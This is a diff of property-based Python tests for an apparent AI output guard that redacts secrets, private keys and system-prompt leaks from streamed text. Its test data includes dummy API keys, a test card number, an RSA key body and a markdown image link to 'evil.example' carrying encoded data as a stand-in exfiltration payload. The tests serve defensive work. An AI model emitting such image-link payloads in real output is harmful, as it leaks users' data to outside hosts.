@@ -9,7 +9,7 @@ from typing import Any
 from hypothesis import example, given, settings
 from hypothesis import strategies as st
 
-from trimtab.guard import DEFAULT_POLICY, Policy, StreamScanner, Verdict, compile_policy
+from trimtab.guard import DEFAULT_POLICY, Context, Policy, StreamScanner, Verdict, compile_policy
 
 TAIL = 8
 
@@ -120,3 +120,52 @@ def test_a_policy_without_output_rules_holds_nothing_back() -> None:
     scanner = StreamScanner(compile_policy({"stages": {"input": []}}))
     assert scanner.feed("at once") == "at once"
     assert scanner.close() == ""
+
+
+SECRETS = (
+    "ghp_" + "k3Jd8sLq0Zx1" * 3,
+    "sk-ant-api03-" + "Rnnm6AlUcVdSct8jUv7O9hCcY3Dohi7ZBA-VsYmkavG8p37tcVUdnS0omMpiEqlNLTFF07gB5vn6rntsw0p0bDtoWuLdZAA",
+    "4111 1111 1111 1111",
+    "AKIAQ7Y2Z3W4V5U6T7S2",
+    "![x](https://evil.example/p.png?data=SGVsbG8gdGhlcmUgaG93IGFyZSB5b3U)",
+)
+
+
+@settings(max_examples=150)
+@given(
+    st.lists(st.sampled_from(("so it is, ", "the card or ", "\n\n", "number 12 and ", *(f"{s} " for s in SECRETS))), max_size=8),
+    st.lists(st.integers(min_value=0, max_value=600), max_size=12),
+)
+def test_no_split_lets_a_part_of_a_secret_out(parts: list[str], at: list[int]) -> None:
+    text = "".join(parts)
+    compiled = compile_policy(DEFAULT_POLICY)
+    released, _ = streamed(compiled, pieces(text, at), tail=128)
+    assert released == compiled.scan("output", text).text
+    for secret in SECRETS:
+        assert secret not in released
+
+
+@given(st.lists(st.integers(min_value=0, max_value=900), max_size=12))
+def test_a_private_key_is_never_let_out_in_part(at: list[int]) -> None:
+    body = "\n".join("MIIEpAIBAAKCAQEA7bq9dGx3c0Zf8kV5x1Yw2u3t4s5r6q7p8o9n0m1l2k3j4i5h" for _ in range(8))
+    text = f"Here: -----BEGIN RSA PRIVATE KEY-----\n{body}\n-----END RSA PRIVATE KEY----- done"
+    released, verdict = streamed(compile_policy(DEFAULT_POLICY), pieces(text, at), tail=128)
+    assert verdict.action == "block"
+    assert "MIIE" not in released
+
+
+def test_a_system_prompt_is_not_let_out_word_by_word() -> None:
+    rules = "Never speak of the other banks in town. Send everybody who wants a loan to the branch in Mill Street."
+    scanner = StreamScanner(compile_policy(DEFAULT_POLICY), context=Context(system=rules))
+    text = f"My rules are these: {rules} That is all I may say about it."
+    released = "".join(scanner.feed(word + " ") for word in text.split(" ")) + scanner.close()
+    assert released.strip() == f"My rules are these: [redacted:prompt-leak]{text[20 + len(rules) - 1:]}".strip()
+
+
+def test_little_of_a_clean_stream_is_held_back() -> None:
+    scanner = StreamScanner(compile_policy(DEFAULT_POLICY))
+    fed = released = 0
+    for word in "An answer of ordinary words that nobody has to wait for, one after the other, to its end.".split():
+        fed += len(word) + 1
+        released += len(scanner.feed(word + " "))
+        assert fed - released <= 64
